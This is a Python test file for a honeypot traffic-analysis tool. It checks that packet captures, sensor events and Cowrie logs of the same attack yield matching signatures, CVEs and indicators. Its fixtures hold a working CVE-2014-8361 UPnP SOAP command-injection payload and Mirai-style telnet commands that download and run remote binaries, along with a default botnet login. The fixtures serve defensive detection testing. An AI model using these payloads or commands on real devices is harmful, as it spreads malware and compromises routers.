"""Sessions from every source go through one classification: a capture, a sensor event file
and a Cowrie log carrying the same bytes (or commands) give the same signatures, CVEs,
indicators and logins; the typed evidence survives the store, bounded and flagged."""

from __future__ import annotations

import ipaddress
import json
import struct
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq

from teiten.app.engine import run_query
from teiten.app.ingest import ingest
from teiten.config import Settings
from teiten.report.model import injected_arguments
from teiten.schema import SESSIONS
from teiten.secrecy import Secrecy
from teiten.sensor.events import Event
from teiten.simulate import SimulationResult
from teiten.simulate.payloads import SOAP_ACTION

CLIENT, SENSOR = "198.51.100.61", "192.0.2.10"
T0 = 1_600_000_000 * 10**9
COMPARED = ("app", "kind", "signatures", "cves", "jvn", "indicators", "indicator_types")


def _packet(src: str, dst: str, sport: int, dport: int, seq: int, flags: int, data: bytes) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 65535, 0, 0)
    total = 20 + len(tcp) + len(data)
    a, b = ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 1, 0, 64, 6, 0, a, b)
    return b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + ip + tcp + data


def capture(path: Path, steps: list[tuple[bool, bytes]], sport: int, dport: int) -> Path:
    """A pcap of one TCP connection: (from the client?, bytes) in order, then FINs."""
    records, seq = [], {True: 1000, False: 9000}
    for i, (from_client, data) in enumerate([*steps, (True, b""), (False, b"")]):
        ends = (CLIENT, SENSOR, sport, dport) if from_client else (SENSOR, CLIENT, dport, sport)
        flags = 0x18 if data else 0x11  # PSH|ACK, or FIN|ACK at the end
        frame = _packet(*ends, seq[from_client], flags, data)
        seq[from_client] += len(data)
        ts = T0 // 1000 + i * 1000  # µs
        records.append(struct.pack("<IIII", ts // 10**6, ts % 10**6, len(frame), len(frame)))
        records.append(frame)
    path.write_bytes(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1) + b"".join(records))
    return path


def events(path: Path, client: bytes, server: bytes, dport: int) -> Path:
    e = Event("lab-1", "http", CLIENT, 40001, SENSOR, dport, T0, T0 + 10**9, client,
              len(client), server, "closed")  # fmt: skip
    path.write_bytes(e.line())
    return path


def cowrie(path: Path, lines: list[tuple[str, dict[str, Any]]]) -> Path:
    out = []
    for i, (event, fields) in enumerate(lines):
        out.append(json.dumps({"eventid": event, "session": "c0ffee", "src_ip": CLIENT,
                               "timestamp": f"2020-09-13T12:26:{i:02d}Z", **fields}))  # fmt: skip
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


def stored(settings: Settings, path: Path, name: str) -> tuple[dict[str, Any], list[Any]]:
    s = settings.replace(
        data=str(settings.data_dir.parent / name), sensor_networks=["192.0.2.0/24"]
    )
    r = ingest([path], s).inputs[0]
    assert r.status == "ingested" and r.sessions == 1, (r.status, r.message, r.sessions)
    (row,) = run_query(s, "SELECT * FROM sessions").to_pylist()
    logins = run_query(s, "SELECT username, password, mirai_dict, commands FROM logins")
    return row, sorted(tuple(x.values()) for x in logins.to_pylist())


def soap_exploit(description: str = "syncthing") -> bytes:
    body = (
        '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        '<s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
        "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
        "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
        "<NewInternalClient>`cd /tmp/;/bin/busybox wget http://198.51.100.23/okiru.sh;"
        "chmod 777 okiru.sh;sh okiru.sh`</NewInternalClient><NewEnabled>1</NewEnabled>"
        f"<NewPortMappingDescription>{description}</NewPortMappingDescription>"
        "<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"
    )
    head = (
        f"POST /picdesc.xml HTTP/1.1\r\nHost: {SENSOR}:52869\r\nSOAPAction: {SOAP_ACTION}\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    return (head + body).encode()


def test_capture_and_sensor_event_of_the_same_exploit_agree(
    tmp_path: Path, settings: Settings
) -> None:
    request = soap_exploit()
    cap = capture(tmp_path / "x.pcap", [(True, request[:200]), (True, request[200:])], 40001, 52869)
    ev = events(tmp_path / "x.jsonl", request, b"", 52869)
    a, _ = stored(settings, cap, "cap")
    b, _ = stored(settings, ev, "ev")
    assert a["client_bytes"] == b["client_bytes"] == request
    assert "CVE-2014-8361" in a["cves"] and "http://198.51.100.23/okiru.sh" in a["indicators"]
    for key in (*COMPARED, "method", "path", "soap_action", "requests", "notes", "evidence_cut"):
        assert a[key] == b[key], key
    assert a["requests"][0]["soap"]["action"] == "AddPortMapping"


TELNET_COMMANDS = [
    "enable", "system", "shell", "sh", "/bin/busybox ECCHI",
    "cd /tmp; wget http://198.51.100.9/bins/mips; chmod 777 mips; ./mips telnet.mips",
]  # fmt: skip


def test_capture_and_cowrie_log_of_the_same_telnet_session_agree(
    tmp_path: Path, settings: Settings
) -> None:
    # The client speaks first (its option negotiation), as the reassembler keeps only the
    # server bytes that follow client bytes.
    steps = [(True, bytes.fromhex("fffc01fffb1f")), (False, b"\r\nlogin: "), (True, b"root\r\n"),
             (False, b"Password: "),
             (True, b"xc3511\r\n"), (False, b"\r\n# ")]  # fmt: skip
    for cmd in TELNET_COMMANDS:
        steps += [(True, cmd.encode() + b"\r\n"), (False, b"\r\n# ")]
    cap = capture(tmp_path / "t.pcap", steps, 40002, 23)
    log = cowrie(tmp_path / "cowrie.json", [
        ("cowrie.session.connect", {"dst_ip": SENSOR, "src_port": 40002, "dst_port": 23,
                                    "protocol": "telnet"}),
        ("cowrie.login.success", {"username": "root", "password": "xc3511"}),
        *[("cowrie.command.input", {"input": cmd}) for cmd in TELNET_COMMANDS],
        ("cowrie.session.closed", {"duration": 9.5}),
    ])  # fmt: skip
    a, a_logins = stored(settings, cap, "cap")
    b, b_logins = stored(settings, log, "cowrie")
    assert "sig.mirai-telnet-busybox-token" in a["signatures"]
    assert "http://198.51.100.9/bins/mips" in a["indicators"]
    for key in COMPARED:
        assert a[key] == b[key], key
    assert a_logins == b_logins == [("root", "xc3511", True, TELNET_COMMANDS)]
    assert a["telnet"]["lines"][:2] == ["root", "xc3511"] and a["honeypot"] is None
    assert b["telnet"] is None and b["honeypot"]["duration_s"] == 9.5


def test_typed_evidence_round_trip_keeps_a_long_soap_call_and_flags_the_cut(
    tmp_path: Path, settings: Settings
) -> None:
    """A 20 KiB argument: the action and every argument name survive, the value is cut to its
    declared limit and counted; nothing is dropped silently (the JSON column dropped it all)."""
    request = soap_exploit("A" * (20 << 10))
    row, _ = stored(settings, events(tmp_path / "long.jsonl", request, b"", 52869), "long")
    (first,) = row["requests"]
    soap = first["soap"]
    assert (first["method"], first["path"], soap["action"]) == ("POST", "/picdesc.xml",
                                                                 "AddPortMapping")  # fmt: skip
    assert soap["header_action"] == SOAP_ACTION
    names = [a["name"] for a in soap["args"]]
    assert names == ["NewRemoteHost", "NewExternalPort", "NewProtocol", "NewInternalPort",
                     "NewInternalClient", "NewEnabled", "NewPortMappingDescription",
                     "NewLeaseDuration"]  # fmt: skip
    value_limit = next(f for f in _field("requests", "soap", "args") if f.name == "value").limit
    description = soap["args"][names.index("NewPortMappingDescription")]["value"]
    assert description == "A" * value_limit and row["evidence_cut"] >= 1
    assert soap["notes"] == ["argument NewPortMappingDescription cut at 8192 characters"]
    assert first["headers"][1] == {"name": "SOAPAction", "value": SOAP_ACTION}
    assert first["body_length"] > 20 << 10
    mask = Secrecy(["192.0.2.0/24"], set(), {"198.51.100.23"})
    assert injected_arguments(row, mask) == [
        "`cd /tmp/;/bin/busybox wget http://[redacted]/okiru.sh;chmod 777 okiru.sh;sh okiru.sh`"
    ]
    short, _ = stored(settings, events(tmp_path / "short.jsonl", soap_exploit(), b"", 52869), "s")
    assert short["evidence_cut"] == 0


def _field(*path: str) -> tuple[Any, ...]:
    fields: tuple[Any, ...] = SESSIONS
    for name in path:
        fields = next(c for c in fields if c.name == name).fields
    return fields


def test_stored_sessions_are_plain_parquet_without_maps(tmp_path: Path, settings: Settings) -> None:
    """Lists and structs only (DuckDB and Spark read them); no JSON text column is left."""
    stored(settings, events(tmp_path / "e.jsonl", soap_exploit(), b"", 52869), "plain")
    files = sorted((settings.data_dir.parent / "plain" / "sessions").rglob("*.parquet"))
    schema = pq.read_schema(files[0])
    assert "details" not in schema.names

    def types(t: Any) -> list[str]:
        kids = [t.field(i).type for i in range(t.num_fields)] if hasattr(t, "num_fields") else []
        if hasattr(t, "value_type"):
            kids = [t.value_type]
        return [str(t).split("<")[0], *[x for k in kids for x in types(k)]]

    seen = {x for f in schema for x in types(f.type)}
    assert not {"map", "dense_union", "sparse_union"} & seen and {"list", "struct"} <= seen


def test_report_sample_arguments_match_the_simulated_exploits(
    settings: Settings, smoke: SimulationResult
) -> None:
    """The masked sample's injected command is read from the typed evidence, for every
    CVE-2014-8361 exploit the simulator sent (both injection styles)."""
    ingest(smoke.pcaps, settings)
    rows = run_query(settings, "SELECT * FROM sessions WHERE soap_action = 'AddPortMapping'")
    by_client = {(r["src"], r["src_port"]): r for r in rows.to_pylist()}
    truth = json.loads(smoke.truth.read_text())["sessions"]
    exploits = [t for t in truth if t["kind"] == "exploit.realtek-miniigd"]
    mask = Secrecy(["203.0.113.0/24"], set(), set())
    for t in exploits:
        row = by_client[(t["src"], t["sport"])]
        command = t["request"]["command"]
        wrapped = f"`{command}`" if t["request"]["injection"] == "backtick" else f"$({command})"
        assert injected_arguments(row, mask) == [wrapped]
        assert row["evidence_cut"] == 0 and row["requests"][0]["target"] == t["request"]["path"]
    assert {t["request"]["injection"] for t in exploits} == {"backtick", "dollar"}
